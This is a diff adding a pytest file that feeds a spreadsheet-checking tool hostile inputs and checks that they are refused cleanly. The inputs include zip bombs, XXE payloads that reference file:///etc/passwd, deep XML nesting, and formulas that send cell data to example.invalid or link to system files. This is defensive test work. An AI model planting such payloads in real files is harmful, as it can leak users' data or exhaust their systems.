@@ -1,0 +1,148 @@
+"""Files made to do harm: each ends in a clear refusal or a right reading, in bounded time, never in a traceback."""
+
+import io
+import zipfile
+from collections.abc import Callable
+
+import openpyxl
+import pytest
+from test_ods import book as ods_book
+from test_ods import cell, figure, row, sheet
+
+from sxtdbv_cli.check import check_file
+from sxtdbv_cli.files.read import file_type, load
+from sxtdbv_cli.model.finding import Unreadable
+from sxtdbv_cli.model.report import Report
+from sxtdbv_cli.text.language import Language
+
+ROWS = [
+    ["STT", "Nội dung", "Kinh phí 2022 (đồng)"],
+    [1, "Tập huấn", 1000],
+    [2, "Hội nghị", 500],
+    [None, "Tổng cộng", 1500],
+]
+
+
+def workbook(change: Callable[[openpyxl.Workbook], None] | None = None) -> bytes:
+    book = openpyxl.Workbook()
+    for cells in ROWS:
+        book.active.append(cells)
+    if change:
+        change(book)
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
+
+
+def with_part(content: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for part in source.namelist():
+            target.writestr(part, change(source.read(part)) if part == name else source.read(part))
+    return out.getvalue()
+
+
+SHEET = "xl/worksheets/sheet1.xml"
+PLAIN = workbook()
+
+
+def in_sheet(old: bytes, new: bytes) -> bytes:
+    def change(part: bytes) -> bytes:
+        assert old in part
+        return part.replace(old, new, 1)
+
+    return with_part(PLAIN, SHEET, change)
+
+
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
+DEEP = b"<a>" * 100_000
+REFUSED = {
+    "empty.xlsx": (b"", "SX004"),
+    "bomb.xlsx": (with_part(PLAIN, SHEET, lambda part: part + b" " * 2**28), "SX010"),
+    "bomb.docx": (with_part(PLAIN, SHEET, lambda part: part), "SX001"),
+    "entities.xlsx": (
+        with_part(PLAIN, "xl/workbook.xml", lambda part: b'<!DOCTYPE w [<!ENTITY a "aaaa">]>' + part),
+        "SX010",
+    ),
+    "outside.xlsx": (
+        with_part(PLAIN, "xl/styles.xml", lambda part: b'<!DOCTYPE s SYSTEM "file:///etc/passwd">' + part),
+        "SX010",
+    ),
+    "deep.xlsx": (with_part(PLAIN, SHEET, lambda part: DEEP), "SX003"),
+    "cut.xlsx": (PLAIN[:-300], "SX003"),
+    "cut-sheet.xlsx": (with_part(PLAIN, SHEET, lambda part: part[:-40]), "SX003"),
+    "no-book.xlsx": (with_part(PLAIN, "xl/workbook.xml", lambda part: b"<a/>"), None),
+    "far-column.xlsx": (in_sheet(b'r="C2"', b'r="ZZZZZ2"'), "SX003"),
+    "far-row.xlsx": (in_sheet(b'<row r="2"', b'<row r="99999999"'), "SX003"),
+    "no-string.xlsx": (in_sheet(b'r="B2" t="inlineStr"', b'r="B2" t="s"'), "SX003"),
+    "password.xlsx": (OLE + "EncryptedPackage".encode("utf-16-le"), "SX001"),
+    "really.xls": (PLAIN, "SX001"),
+    "page.xls": (b"<html><body><table><tr><td>1</td></tr></table></body></html>", "SX001"),
+    "text.xlsx": (b"STT,N\xe1\xbb\x99i dung,2022\n1,a,5\n", "SX001"),
+    "picture.docx": (b"\x89PNG\r\n\x1a\n", "SX001"),
+    "cut.xls": (OLE + "Workbook".encode("utf-16-le"), "SX003"),
+    "huge.ods": (ods_book(sheet(row(figure("1"), 'table:number-rows-repeated="1048576"') * 3)), "SX010"),
+    "wide.ods": (ods_book(sheet(row(cell('table:number-columns-repeated="999999999"') + figure("1")))), "SX010"),
+    "binary.csv": (bytes(range(256)), "SX002"),
+    "control.txt": ("STT\n|\nTập \x1b[2J\n|\n".encode(), "SX002"),
+    "bars.txt": (b"|\n" * 50_000, "SX011"),
+    "headings.txt": (b"STT\n|\n" * 3_000, "SX011"),
+}
+
+
+@pytest.mark.parametrize("name", REFUSED)
+def test_a_hostile_file_is_refused_in_words(name: str) -> None:
+    content, code = REFUSED[name]
+    with pytest.raises(Unreadable) as caught:
+        load(file_type(name), content, name)
+    for fault in caught.value.faults:
+        for language in Language:
+            said = fault.message.say(language, fault.facts)
+            assert said
+            assert "{" not in said
+    assert code in (None, caught.value.faults[0].code)
+
+
+def formatted_rows(part: bytes) -> bytes:
+    rows = b'<row s="1" customFormat="1"/>' * 300_000
+    return part.replace(b"</sheetData>", rows + b"</sheetData>")
+
+
+def linked(book: openpyxl.Workbook) -> None:
+    book.active["E2"] = '=WEBSERVICE("http://example.invalid/" & C2)'
+    book.active["E3"] = "='file:///etc/[passwd]S'!A1"
+    book.active["E4"] = '=HYPERLINK("\\\\server\\share","x")'
+
+
+def ods_cell(value: object) -> str:
+    if isinstance(value, int):
+        return figure(str(value))
+    return cell('office:value-type="string"', f"<text:p>{value}</text:p>") if value else cell()
+
+
+READ = {
+    "whole-sheet.xlsx": in_sheet(b'<dimension ref="A1:C4"', b'<dimension ref="A1:XFD1048576"'),
+    "formatted-rows.xlsx": with_part(PLAIN, SHEET, formatted_rows),
+    "links.xlsx": workbook(linked),
+    "blank-rows.ods": ods_book(
+        sheet(
+            "".join(row("".join(map(ods_cell, cells))) for cells in ROWS)
+            + row(cell('table:number-columns-repeated="16384"'), 'table:number-rows-repeated="1048000"')
+        )
+    ),
+}
+
+
+@pytest.mark.parametrize("name", READ)
+def test_what_only_looks_large_is_read(name: str) -> None:
+    found = load(file_type(name), READ[name], name).plan
+    assert found.lines.titles == ("Tập huấn", "Hội nghị")
+    assert found.lines.amounts[0] == (1000, 500)
+
+
+def test_a_command_reports_it(tmp_path_factory: pytest.TempPathFactory) -> None:
+    path = tmp_path_factory.mktemp("hostile") / "cut.xlsx"
+    path.write_bytes(PLAIN[:-300])
+    report: Report = check_file(str(path))
+    assert report.subject is None
+    assert [fault.code for fault in report.faults] == ["SX003"]
